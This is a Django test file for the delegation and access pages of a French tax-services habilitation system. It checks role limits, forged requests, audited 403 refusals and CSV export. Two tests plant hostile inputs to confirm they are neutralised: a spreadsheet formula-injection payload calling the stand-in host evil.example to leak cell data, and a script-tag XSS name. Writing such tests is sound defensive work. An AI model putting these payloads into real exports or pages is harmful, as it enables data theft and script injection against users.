"""The delegation pages: what they show, what they refuse (403, audited), forged POSTs."""

import html

import pytest

from audit.models import Action as AuditAction
from audit.models import AuditEvent
from habilitations.choices import Role, State
from habilitations.delegation.actions import designate
from habilitations.delegation.rules import Designation
from habilitations.models import Habilitation
from tests.factories import CompanyFactory, HabilitationFactory
from tests.helpers import prove_fresh_factor

pytestmark = pytest.mark.django_db


@pytest.fixture
def titular(company, alice):
    HabilitationFactory(company=company, subscriber=alice, code="declarer_tva")
    HabilitationFactory(company=company, subscriber=alice, code="payer")
    return alice


def test_the_deputy_is_confirmed_by_name_before_anything_is_saved(client, company, titular, bob):
    client.force_login(titular)
    prove_fresh_factor(client)
    url = f"/espace/dossiers/{company.identifier}/suppleants/"
    page = client.post(url, {"service": "payer", "number": bob.subscriber_number})
    assert "Bob SUPPLEANT" in page.content.decode()
    assert not Habilitation.objects.filter(subscriber=bob).exists()
    client.post(url, {"service": "payer", "number": bob.subscriber_number, "confirm": "1"})
    assert Habilitation.objects.get(subscriber=bob).role == Role.DEPUTY_ADMIN


def test_an_unknown_number_is_refused_next_to_the_field(client, company, titular):
    client.force_login(titular)
    prove_fresh_factor(client)
    page = client.post(
        f"/espace/dossiers/{company.identifier}/delegations/", {"number": "20269999999999"}
    ).content.decode()
    assert "Aucun espace professionnel ne correspond à ce numéro d" in page
    page = client.post(f"/espace/dossiers/{company.identifier}/delegations/", {"number": "123"})
    assert "14 chiffres" in page.content.decode()


def test_a_number_in_other_digits_is_refused_as_a_format(client, company, titular):
    """docs/companies.md §1.5, docs/accounts.md §2: ASCII digits only; Arabic-Indic ones are
    not digits of a subscriber number."""
    client.force_login(titular)
    prove_fresh_factor(client)
    page = client.post(
        f"/espace/dossiers/{company.identifier}/delegations/", {"number": "٢٠١٠١٦٧٠١٠١٩١٩"}
    ).content.decode()
    assert "14 chiffres" in page


def test_delegating_from_the_page_is_immediate(client, company, titular, bob):
    client.force_login(titular)
    prove_fresh_factor(client)
    url = f"/espace/dossiers/{company.identifier}/delegations/delegataire/{bob.subscriber_number}/"
    page = client.get(url).content.decode()
    assert "Payer TVA" in page and "Acteur délégant" in page
    client.post(url, {"level-declarer_tva": "AD", "level-payer_tva": "AC"})
    client.force_login(bob)
    prove_fresh_factor(client)
    assert company.name in client.get("/espace/dossiers/").content.decode()


def test_a_delegating_actor_is_offered_actor_only_on_its_own_services(
    client, company, titular, bob, carol
):
    designate(titular, company, bob, [Designation("declarer_tva", Role.DELEGATING_ACTOR)])
    client.force_login(bob)
    prove_fresh_factor(client)
    url = (
        f"/espace/dossiers/{company.identifier}/delegations/delegataire/{carol.subscriber_number}/"
    )
    rows = client.get(url).context["rows"]
    assert [(es.code, [r.value for r in levels]) for es, levels, *_ in rows] == [
        ("declarer_tva", ["AC"])
    ]
    # A forged level above its rights is ignored.
    client.post(url, {"level-declarer_tva": "AD", "level-payer_tva": "AC"})
    assert not Habilitation.objects.filter(subscriber=carol).exists()


def test_an_actor_cannot_open_the_delegation_pages(client, company, titular, bob):
    designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
    client.force_login(bob)
    prove_fresh_factor(client)
    for path in ["delegations/", "suppleants/", "acces/"]:
        assert client.get(f"/espace/dossiers/{company.identifier}/{path}").status_code == 403
    assert AuditEvent.objects.filter(action=AuditAction.ACCESS_REFUSED, actor=bob).count() == 3


def test_forged_posts_on_another_companys_habilitation_are_refused(
    client, company, titular, bob, carol
):
    other = CompanyFactory()
    HabilitationFactory(company=other, subscriber=carol, code="declarer_tva")
    (foreign,) = designate(carol, other, bob, [Designation("declarer_tva", Role.ACTOR)])
    client.force_login(titular)
    prove_fresh_factor(client)
    # Through one's own company's URL, or through the other company's.
    for identifier in (company.identifier, other.identifier):
        response = client.post(
            f"/espace/dossiers/{identifier}/delegations/{foreign.pk}/", {"action": "revoke"}
        )
        assert response.status_code == 403
    assert Habilitation.objects.filter(pk=foreign.pk).exists()


def test_suspend_reactivate_delete_from_the_list(client, company, titular, bob):
    (habilitation,) = designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
    client.force_login(titular)
    prove_fresh_factor(client)
    url = f"/espace/dossiers/{company.identifier}/delegations/{habilitation.pk}/"
    client.post(url, {"action": "suspend"})
    habilitation.refresh_from_db()
    assert habilitation.state == State.SUSPENDED
    client.post(url, {"action": "reactivate"})
    habilitation.refresh_from_db()
    assert habilitation.state == State.ACTIVE
    # Deleting asks first, naming whose and which; nothing is deleted until confirmed.
    confirm = client.post(url, {"action": "revoke"}).content.decode()
    assert "Supprimer une délégation" in confirm and bob.display_name in confirm
    assert "Déclarer TVA" in confirm
    assert Habilitation.objects.filter(pk=habilitation.pk).exists()
    done = client.post(url, {"action": "revoke", "confirmed": "1"}, follow=True).content.decode()
    assert not Habilitation.objects.filter(pk=habilitation.pk).exists()
    assert f"La délégation de {bob.display_name} sur « Déclarer TVA » est supprimée." in (
        html.unescape(done)
    )


def test_who_has_access_lists_holders_history_and_exports_csv(client, company, titular, bob):
    designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
    client.force_login(titular)
    prove_fresh_factor(client)
    page = client.get(f"/espace/dossiers/{company.identifier}/acces/").content.decode()
    assert bob.subscriber_number in page and "Habilitation accordée" in page
    history = page[page.index("Historique des changements") :]
    assert "Déclarer TVA" in history and "Acteur" in history
    assert "declarer_tva" not in history
    csv = client.get(f"/espace/dossiers/{company.identifier}/acces/?format=csv")
    assert csv["Content-Type"].startswith("text/csv")
    lines = csv.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Nom;Prénom;Numéro d'abonné;Service;Rôle")
    assert any(bob.subscriber_number in line and "Acteur" in line for line in lines[1:])
    assert len(lines) == 4  # header, the AT's two services, Bob's delegation


def test_renouncing_from_consulter_vos_services(client, company, titular, bob):
    (habilitation,) = designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
    client.force_login(bob)
    prove_fresh_factor(client)
    assert (
        f"/espace/habilitations/{habilitation.pk}/renoncer/"
        in client.get("/espace/habilitations/").content.decode()
    )
    client.post(f"/espace/habilitations/{habilitation.pk}/renoncer/")
    assert not Habilitation.objects.filter(pk=habilitation.pk).exists()
    # Someone else's habilitation cannot be renounced.
    at = Habilitation.objects.filter(subscriber=titular).first()
    assert client.post(f"/espace/habilitations/{at.pk}/renoncer/").status_code == 404


def test_bulk_delegation_previews_then_grants(client, titular, bob):
    companies = [CompanyFactory(name=f"CLIENT {n:02d}") for n in range(4)]
    for c in companies[:3]:
        HabilitationFactory(company=c, subscriber=titular, code="declarer_tva")
    HabilitationFactory(company=companies[3], subscriber=titular, code="declarer_is")
    client.force_login(titular)
    prove_fresh_factor(client)
    form = {
        "number": bob.subscriber_number,
        "role": "AC",
        "codes": ["declarer_tva"],
        "query": "client",
    }
    preview = client.post("/espace/delegataires/deleguer/", form)
    assert "3 habilitations" in preview.content.decode()
    assert not Habilitation.objects.filter(subscriber=bob).exists()
    client.post("/espace/delegataires/deleguer/", {**form, "confirm": "1"})
    assert Habilitation.objects.filter(subscriber=bob).count() == 3


def test_the_csv_never_carries_a_formula(client, company, titular):
    from tests.factories import SubscriberFactory

    mallory = SubscriberFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    designate(titular, company, mallory, [Designation("declarer_tva", Role.ACTOR)])
    client.force_login(titular)
    prove_fresh_factor(client)
    text = client.get(f"/espace/dossiers/{company.identifier}/acces/?format=csv").content.decode()
    assert ";=HYPERLINK" not in text and ';"=HYPERLINK' not in text
    assert "'=HYPERLINK" in text


def test_bulk_delegation_with_a_repeated_service_does_not_crash(client, titular, bob, company):
    client.force_login(titular)
    prove_fresh_factor(client)
    form = {
        "number": bob.subscriber_number,
        "role": "AC",
        "codes": ["declarer_tva", "declarer_tva"],
        "query": "",
        "confirm": "1",
    }
    assert client.post("/espace/delegataires/deleguer/", form).status_code == 302
    assert Habilitation.objects.filter(subscriber=bob).count() == 1


def test_a_forged_level_beyond_ones_rights_is_refused_and_audited(
    client, company, titular, bob, carol
):
    designate(titular, company, bob, [Designation("declarer_tva", Role.DELEGATING_ACTOR)])
    client.force_login(bob)
    prove_fresh_factor(client)
    url = (
        f"/espace/dossiers/{company.identifier}/delegations/delegataire/{carol.subscriber_number}/"
    )
    assert client.post(url, {"level-declarer_tva": "AD"}).status_code == 403
    assert client.post(url, {"level-declarer_is": "AC"}).status_code == 403
    assert AuditEvent.objects.filter(action=AuditAction.ACCESS_REFUSED, actor=bob).count() == 2
    assert not Habilitation.objects.filter(subscriber=carol).exists()


def test_a_page_message_naming_a_subscriber_escapes_the_name(client, company, titular, bob):
    # Page messages go through django-dsfr's alert, which prints its content unescaped unless
    # DSFR_CONTENT_IS_SAFE is off: a name is user data.
    bob.first_name = "<script>alert(1)</script>"
    bob.save()
    client.force_login(titular)
    prove_fresh_factor(client)
    url = f"/espace/dossiers/{company.identifier}/suppleants/"
    data = {"service": "payer", "number": bob.subscriber_number, "confirm": "1"}
    page = client.post(url, data, follow=True).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; SUPPLEANT est désormais administrateur" in page
